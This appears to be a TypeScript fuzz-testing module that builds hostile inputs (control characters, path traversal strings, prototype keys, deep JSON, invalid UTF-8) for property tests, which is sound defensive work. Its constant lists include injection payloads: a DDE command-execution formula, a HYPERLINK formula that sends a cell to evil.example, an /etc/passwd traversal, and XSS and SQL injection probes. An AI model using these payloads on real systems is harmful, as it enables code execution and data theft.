// Generated hostile input shared by the fuzz properties: text with control characters, lone
// surrogates and NUL; spreadsheet formula prefixes; path tricks; numbers that are not quite numbers;
// JSON of the wrong shape, with prototype keys or nested thousands of levels deep; bytes that are
// not UTF-8; and sizes from empty to megabytes.
import * as fc from "fast-check";

/** Names that reach a prototype when used as a key. */
export const prototypeKeys = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty"] as const;

/** What a spreadsheet runs as a formula (CSV injection), with the leading characters that hide it. */
export const formulaText = fc.constantFrom(
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "+1+1",
  "-1+1",
  "@SUM(1,2)",
  "\t=1+1",
  "\r=1+1",
  " =1",
  "=",
  "+",
  "-",
  "@",
);

/** Slugs and path segments that try to leave their place. */
export const pathTricks = fc.constantFrom(
  "..",
  "../..",
  "../../etc/passwd",
  "..%2f..%2fetc%2fpasswd",
  "%2e%2e",
  "%2e%2e%2f",
  "%252e%252e%252f",
  "a%2Fb",
  "a/b",
  "a\\b",
  "..\\..\\windows",
  "....//",
  ".",
  "%00",
  "a%00b",
  "/",
  "//evil.example",
  "?x=1",
  "#frag",
  "%",
  "%zz",
  "%c0%ae%c0%ae",
  "~",
  "CON",
  "aux.json",
);

/** Strings that parse as numbers only sometimes, or as numbers out of every range. */
export const numberTricks = fc.constantFrom(
  "0",
  "-1",
  "1.5",
  "1e3",
  "1e309",
  "-0",
  "NaN",
  "Infinity",
  "0x10",
  "0b1",
  " 1 ",
  "1_000",
  "2147483648",
  "99999999999",
  "9007199254740993",
  "٣",
  "",
);

/** Characters that break naive parsers, terminals, storage or rendering. */
const awkwardCharacter = fc.constantFrom(
  "\u0000",
  "\u0001",
  "\u0008",
  "\u001b[31m",
  "\u007f",
  "\u0085",
  "\r",
  "\n",
  "\r\n",
  "\t",
  "\u2028",
  "\u202e",
  "\u200b",
  "\ufeff",
  "\ufffd",
  "\uffff",
  "\ud800",
  "\udfff",
  "\ud83d",
  "\ud83d\ude00",
  "e\u0301",
  '"',
  "'",
  "`",
  "\\",
  "|",
  ",",
  ";",
  "<script>alert(1)</script>",
  "${7*7}",
  "{{7*7}}",
  "' OR '1'='1",
  "%s%n",
);

/** Text of any length up to `maxLength` code units with the characters above mixed in. */
export function hostileText(maxLength = 300): fc.Arbitrary<string> {
  const unit = fc.oneof(
    { weight: 4, arbitrary: fc.string({ unit: "binary", maxLength: 1 }) },
    { weight: 2, arbitrary: fc.string({ unit: "binary-ascii", maxLength: 1 }) },
    { weight: 2, arbitrary: awkwardCharacter },
  );
  return fc.oneof(
    { weight: 6, arbitrary: fc.string({ unit, maxLength }) },
    { weight: 1, arbitrary: formulaText },
    { weight: 1, arbitrary: pathTricks },
    { weight: 1, arbitrary: numberTricks },
    { weight: 1, arbitrary: fc.constantFrom(...prototypeKeys) },
  );
}

/** Sometimes short, sometimes far beyond any field's limit (up to `maxBytes`, built cheaply). */
export function sizedText(maxBytes: number): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 8, arbitrary: hostileText() },
    {
      weight: 1,
      arbitrary: fc
        .tuple(hostileText(20), fc.integer({ min: 1, max: maxBytes }))
        .map(([piece, size]) => (piece || "x").repeat(Math.ceil(size / Math.max(1, piece.length)))),
    },
  );
}

/** A string one of the real values in `known` (to get past the first check), or hostile text. */
export function knownOrHostile(known: readonly string[], maxLength = 300): fc.Arbitrary<string> {
  return known.length
    ? fc.oneof({ weight: 1, arbitrary: fc.constantFrom(...known) }, { weight: 1, arbitrary: hostileText(maxLength) })
    : hostileText(maxLength);
}

/** Keys of generated objects: ordinary names, prototype names and odd characters. */
const hostileKey = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 12 }) },
  { weight: 1, arbitrary: fc.constantFrom(...prototypeKeys) },
  { weight: 1, arbitrary: hostileText(12) },
);

/** JSON values of every type (what a field of the wrong type receives), with hostile strings and keys. */
export const hostileJsonValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    fc.constant(null),
    fc.boolean(),
    fc.integer(),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    fc.constantFrom(0, -1, 2 ** 31, Number.MAX_SAFE_INTEGER, 1e308, -1e308, 0.5),
    hostileText(60),
    fc.array(tie("value"), { maxLength: 5 }),
    fc.dictionary(hostileKey, tie("value"), { maxKeys: 5 }),
  ),
})).value;

/** JSON text nested `depth` levels deep (built as text: a value this deep is hard to build any other way). */
export function deeplyNestedJson(depth: number, kind: "array" | "object"): string {
  return kind === "array" ? "[".repeat(depth) + "]".repeat(depth) : '{"a":'.repeat(depth) + "1" + "}".repeat(depth);
}

export const deepJsonText = fc
  .tuple(fc.constantFrom(1_000, 10_000, 100_000), fc.constantFrom("array" as const, "object" as const))
  .map(([depth, kind]) => deeplyNestedJson(depth, kind));

/** Byte sequences that are not UTF-8 (overlong, surrogate, truncated, stray continuation, UTF-16). */
const invalidUtf8 = fc.constantFrom(
  [0xc0, 0x80],
  [0xc1, 0xbf],
  [0xe0, 0x80, 0x80],
  [0xed, 0xa0, 0x80],
  [0xf4, 0x90, 0x80, 0x80],
  [0xf8, 0x88, 0x80, 0x80, 0x80],
  [0xe2, 0x82],
  [0x80],
  [0xbf, 0xbf],
  [0xfe],
  [0xff],
  [0xff, 0xfe, 0x41, 0x00],
  [0xfe, 0xff, 0x00, 0x41],
  [0x00],
);

/** Text (as UTF-8) with invalid sequences spliced in at random places. */
export function bytesWithInvalidUtf8(text: fc.Arbitrary<string>): fc.Arbitrary<Uint8Array> {
  return fc.tuple(text, fc.array(fc.tuple(fc.nat(), invalidUtf8), { maxLength: 6 })).map(([value, splices]) => {
    const bytes = [...Buffer.from(value, "utf8")];
    for (const [at, sequence] of splices) bytes.splice(bytes.length ? at % (bytes.length + 1) : 0, 0, ...sequence);
    return Uint8Array.from(bytes);
  });
}

/** Bodies of every kind: random bytes, broken UTF-8, hostile JSON, deep nesting, nothing at all. */
export const hostileBody: fc.Arbitrary<Uint8Array> = fc.oneof(
  fc.uint8Array({ maxLength: 2_000 }),
  bytesWithInvalidUtf8(hostileText(500)),
  hostileJsonValue.map((value) => Buffer.from(JSON.stringify(value) ?? "")),
  deepJsonText.map((text) => Buffer.from(text)),
  fc.constant(new Uint8Array()),
);
